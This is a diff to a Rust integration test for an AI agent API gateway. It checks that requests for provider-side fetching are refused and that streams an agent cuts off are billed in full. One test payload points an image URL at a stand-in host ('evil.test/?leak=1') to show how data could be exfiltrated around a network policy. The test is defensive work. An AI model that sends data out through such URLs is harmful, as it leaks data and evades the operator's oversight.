@@ -874,6 +874,55 @@ async fn the_gateway_lets_only_the_turns_token_through() {
     for r in open {
         r.text().await.unwrap();
     }
+
+    // What the provider would fetch or run for the agent, around its network policy (a
+    // server-side tool, an image by URL): refused, never forwarded.
+    let before = provider.seen().len();
+    for body in [
+        json!({"model": "m", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}],
+            "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
+        json!({"model": "m", "max_tokens": 10, "messages": [{"role": "user", "content": [
+            {"type": "image", "source": {"type": "url", "url": "http://evil.test/?leak=1"}}]}]}),
+        json!({"model": "m", "max_tokens": 10, "messages": [], "mcp_servers": []}),
+    ] {
+        let (s, _, b) = call("/v1/messages", Some(("x-api-key", own.token.clone())), body).await;
+        let v: Value = serde_json::from_str(&b).unwrap();
+        assert_eq!((s, v["error"].as_str()), (403, Some("not_allowed")), "{b}");
+    }
+    assert_eq!(provider.seen().len(), before, "none reached the provider");
+
+    // An agent that hangs up on a stream before its usage is reported is charged the call's
+    // estimate (its max_tokens out), not nothing.
+    let mut r = http
+        .post("http://gateway/v1/messages")
+        .header("x-api-key", &own.token)
+        .json(
+            &json!({"model": "hangup", "max_tokens": 777, "stream": true,
+            "messages": [{"role": "user", "content": "please use your tools"}]}),
+        )
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    assert!(r.chunk().await.unwrap().is_some());
+    drop(r);
+    let deadline = Instant::now() + LIMIT;
+    let row = loop {
+        let (_, v) = rig.api().get(&rig.operator, "/v1/usage?folder=live").await;
+        if let Some(row) = v["rows"]
+            .as_array()
+            .and_then(|rows| rows.iter().find(|r| r["model"] == "hangup"))
+        {
+            break row.clone();
+        }
+        assert!(Instant::now() < deadline, "the cut call's usage: {v}");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    };
+    assert_eq!(
+        (&row["calls"], &row["output_tokens"]),
+        (&json!(1), &json!(777)),
+        "{row}"
+    );
     let before = provider.seen().len();
 
     // The official Anthropic SDK, as an agent would use it: plain and streamed messages, and
